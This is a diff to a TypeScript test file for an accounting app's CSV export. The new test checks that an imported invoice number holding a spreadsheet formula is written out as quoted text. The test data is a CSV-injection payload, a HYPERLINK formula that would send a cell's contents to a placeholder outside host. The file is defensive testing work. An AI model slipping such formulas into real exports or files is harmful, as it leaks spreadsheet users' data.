@@ -2,6 +2,7 @@ import { Writable } from 'node:stream';
 import { DOCUMENTS_CSV_HEADER, streamExport } from '@cifra/exports';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createDraft, discardDraft, postDocument, voidDocument } from '../src/documents/index.ts';
+import { importOpeningBalances } from '../src/opening/index.ts';
 import type { Books } from '../src/services/books.ts';
 import { incomeStatement } from '../src/services/financial-statements.service.ts';
 import { createParty } from '../src/services/parties.service.ts';
@@ -186,5 +187,37 @@ describe('DOCUMENTS_CSV', () => {
     expect(sales).toBe(206_800n);
     const is = await incomeStatement(t.db, '2026-03-01', '2026-03-31');
     expect(is.income.totalMinor).toBe(sales);
+  });
+});
+
+describe('DOCUMENTS_CSV and free text', () => {
+  it("writes an imported number that is a formula as text: a leading ', quoted", async () => {
+    // The previous system's numbers are free text: this one would run in a spreadsheet.
+    const number = '=HYPERLINK("http://x.example/?"&A1,"open")';
+    await importOpeningBalances(books, {
+      openingDate: '2026-01-01',
+      clearingAccountCode: '3301',
+      trialBalance: [
+        { accountCode: '1201', debit: '50.00' },
+        { accountCode: '3101', credit: '50.00' },
+      ],
+      openItems: [
+        {
+          kind: 'SALES_INVOICE',
+          partyCode: 'C1',
+          number,
+          date: '2025-12-10',
+          dueDate: '2026-01-09',
+          originalAmount: '50.00',
+          openAmount: '50.00',
+        },
+      ],
+    });
+    const text = await exportDocuments('2026-01-01', '2026-01-31');
+    const quoted = `"'=HYPERLINK(""http://x.example/?""&A1,""open"")"`;
+    // The number, and the reference that keeps it.
+    expect(text.split('\r\n')[1]?.startsWith(`${quoted},SALES_INVOICE,POSTED,`)).toBe(true);
+    expect(text.split(quoted)).toHaveLength(3);
+    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
   });
 });
